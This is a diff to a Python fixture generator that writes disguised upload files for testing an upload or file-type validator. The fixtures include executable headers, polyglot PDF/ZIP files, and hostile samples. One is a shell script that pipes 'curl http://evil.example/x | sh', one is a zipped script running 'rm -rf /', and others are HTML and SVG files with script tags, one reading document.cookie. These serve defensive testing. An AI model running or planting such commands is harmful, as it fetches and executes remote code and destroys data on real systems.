@@ -362,8 +362,39 @@ def yaml_files() -> dict[str, bytes]:
     return files
 
 
+# --- uploaded materials -----------------------------------------------------------------------------------------
+
+UPLOADS = HERE / "corpus" / "uploads"
+PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def upload_files() -> dict[str, bytes]:
+    """Files whose bytes are not what their names claim (the names the tests upload them under are in cases.yaml)."""
+    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17
+    return {
+        "pe_exe.bin": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00" + b"\x00" * 60,
+        "elf.bin": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
+        "shell_script.bin": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
+        "zip_with_script.bin": _zip({"run.sh": b"#!/bin/sh\nrm -rf /\n", "doc.txt": b"x"}),
+        "html_script.bin": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
+        "svg_script.bin": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "png.bin": png,
+        "xlsx_zip.bin": _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK}),
+        "ofd_zip.bin": _zip({"OFD.xml": b"<ofd:OFD/>"}),
+        "ole2.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
+        "pdf_zip_polyglot.bin": PDF + _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
+        "zip_pdf_polyglot.bin": _zip({"[Content_Types].xml": b"<Types/>", "word/x.xml": b"<w/>"}) + PDF,
+        "truncated_zip.bin": b"PK\x03\x04" + b"\x00" * 40,
+        "good.pdf": PDF,
+        "empty.bin": b"",
+    }
+
+
 def main() -> None:
     _setup()
+    UPLOADS.mkdir(parents=True, exist_ok=True)
+    for name, data in sorted(upload_files().items()):
+        (UPLOADS / name).write_bytes(data)
     RULES.mkdir(parents=True, exist_ok=True)
     for name, data in sorted(yaml_files().items()):
         (RULES / name).write_bytes(data)
